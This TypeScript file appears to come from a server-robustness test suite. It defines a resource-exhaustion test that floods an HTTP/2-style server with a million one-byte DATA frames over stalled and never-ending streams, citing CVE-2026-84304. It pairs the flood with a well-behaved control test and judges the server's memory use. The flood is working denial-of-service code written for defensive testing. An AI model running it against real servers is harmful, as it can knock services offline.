// Row 6, DATA of one byte each over many streams whose handlers do not read, or wait for the end of a
// long message (CVE-2026-84304): what a frame costs in memory beside its byte.
// The twin streams messages of one byte to handlers that read them.

import type { Attack, AttackModule } from '../attack.ts';
import { calmFaults, endOf } from '../measure/connection-end.ts';
import { floodRow } from '../measure/flood-row.ts';
import type { Row } from '../row.ts';
import { ECHO, READ, STALL } from '../runtimes/runtime.ts';
import { answersOf } from '../wire/answers.ts';
import {
  data,
  FRAME_HEADER,
  FrameType,
  headers,
  message,
  requestBlock,
  windowUpdate,
} from '../wire/frames.ts';
import { RawPeer } from '../wire/raw-peer.ts';

const FRAMES = 1_000_000;
const STREAMS = 100;
const BATCH = 2_000;
/** Claimed by a message that never comes to its end: under every server's limit, over FRAMES / STREAMS. */
const CLAIMED = 60_000;
/** Payload once for the bytes, once for what they lie in, and what a connection costs anyway. */
const MOST_HELD_MB: number = (2 * FRAMES) / 1e6 + 4;

/** One frame of one byte, written over for each stream. */
class TinyData {
  private readonly bytes: Buffer;

  constructor() {
    this.bytes = Buffer.concat(
      Array.from({ length: BATCH }, () => data(0, Buffer.of('x'.charCodeAt(0)))),
    );
  }

  /** `BATCH` frames, one for each of the streams in turn. */
  batch(at: number): Buffer {
    const size = FRAME_HEADER + 1;
    const copy = Buffer.from(this.bytes);
    for (let i = 0; i < BATCH; i += 1) copy.writeUInt32BE(idOf((at + i) % STREAMS), i * size + 5);
    return copy;
  }
}

function idOf(stream: number): number {
  return 2 * stream + 1;
}

/** Every other stream is one whose handler reads nothing; the others gather a message. */
async function tiny(peer: RawPeer, frames: number): Promise<number> {
  const stalled = requestBlock(STALL);
  const gathers = requestBlock(ECHO);
  const prefix = message(Buffer.alloc(CLAIMED)).subarray(0, 5);
  for (let stream = 0; stream < STREAMS; stream += 1) {
    const id = idOf(stream);
    peer.write(headers(id, stream % 2 === 0 ? stalled : gathers));
    for (const byte of prefix) peer.write(data(id, Buffer.of(byte)));
  }
  const made = new TinyData();
  const batches = await peer.flood(frames / BATCH, (i) => made.batch(i * BATCH), {
    batch: 1,
    withinMs: 20_000,
  });
  return batches * BATCH;
}

const flood: Attack = async (address) => {
  const peer = await RawPeer.connect(address);
  const frames = await tiny(peer, FRAMES);
  const taken = await peer.fence(10_000);
  // The streams stay open: what they hold is measured now.
  return { frames, taken: taken ? 'yes' : 'no', goAwayCode: endOf(peer) };
};

/** For row 38: one connection of it. */
const oneOfMany: Attack = async (address) => {
  const peer = await RawPeer.connect(address);
  const frames = await tiny(peer, FRAMES / 25);
  await peer.fence(3_000);
  peer.end();
  return { frames };
};

const TWIN_STREAMS = 10;
const TWIN_MESSAGES = 10_000;

/** Keeps to the windows of its streams, and the server gives the credit back as it reads. */
const messages: Attack = async (address) => {
  const peer = await RawPeer.connect(address);
  peer.write(windowUpdate(0, 0x3fff_ffff));
  const answers = answersOf(peer);
  const credit = new Map<number, number>();
  const hear = peer.onFrame;
  peer.onFrame = (frame) => {
    hear(frame);
    if (frame.type !== FrameType.WINDOW_UPDATE) return;
    const { streamId } = frame;
    credit.set(streamId, (credit.get(streamId) ?? 0) + frame.payload.readUInt32BE(0));
  };
  const block = requestBlock(READ);
  const one = message(Buffer.of(1));
  const ids = Array.from({ length: TWIN_STREAMS }, (_, i) => idOf(i));
  credit.set(0, 65_535);
  for (const id of ids) {
    credit.set(id, 65_535);
    answers.open.add(id);
    peer.write(headers(id, block));
  }
  const hasCredit = (id: number): boolean =>
    (credit.get(id) ?? 0) >= one.length && (credit.get(0) ?? 0) >= one.length;
  for (let i = 0; i < TWIN_MESSAGES && !peer.isOver; i += 1) {
    const parts: Buffer[] = [];
    for (const id of ids) {
      if (!hasCredit(id)) {
        peer.write(Buffer.concat(parts.splice(0)));
        await peer.until(() => hasCredit(id) || peer.isOver, 5_000);
      }
      for (const of of [0, id]) credit.set(of, (credit.get(of) ?? 0) - one.length);
      parts.push(data(id, one, i === TWIN_MESSAGES - 1));
    }
    if (!peer.write(Buffer.concat(parts)))
      await peer.until(() => peer.socket.writableLength === 0, 100);
  }
  await peer.until(() => answers.open.size === 0 || peer.isOver, 10_000);
  const seen = { answered: answers.ended, goAwayCode: endOf(peer) };
  peer.end();
  return seen;
};

export const attacks: AttackModule['attacks'] = { flood, oneOfMany, messages };

function tinyData(tls: boolean): Row {
  return floodRow({
    row: 6,
    name: 'DATA of one byte, 1,000,000 over 100 streams',
    direction: 'server',
    tls,
    expected: `live memory at most 2 x payload + 4 MB, which is ${MOST_HELD_MB} MB, while all streams are open; or GOAWAY(ENHANCE_YOUR_CALM). Streamed messages of one byte are no attack`,
    module: import.meta.url,
    attack: 'flood',
    seconds: 6,
    counters: [],
    mayAct: ['glitches'],
    judge: ({ seen, heldMB }, runtime) => {
      if (calmFaults(seen.goAwayCode, runtime).length === 0) return [];
      const faults: string[] = [];
      if (seen.frames !== FRAMES || seen.taken !== 'yes') {
        faults.push(`${seen.frames} of ${FRAMES} frames were written, read: ${seen.taken}`);
      }
      if (heldMB > MOST_HELD_MB) {
        faults.push(`${heldMB.toFixed(1)} MB are held, the bar is ${MOST_HELD_MB}`);
      }
      return faults;
    },
    twin: {
      attack: 'messages',
      seconds: 5,
      judge: ({ answered, goAwayCode }) =>
        answered === TWIN_STREAMS && goAwayCode === 'none'
          ? []
          : [`${answered} of ${TWIN_STREAMS} calls were answered, GOAWAY code ${goAwayCode}`],
    },
  });
}

export const rows: readonly Row[] = [tinyData(false), tinyData(true)];
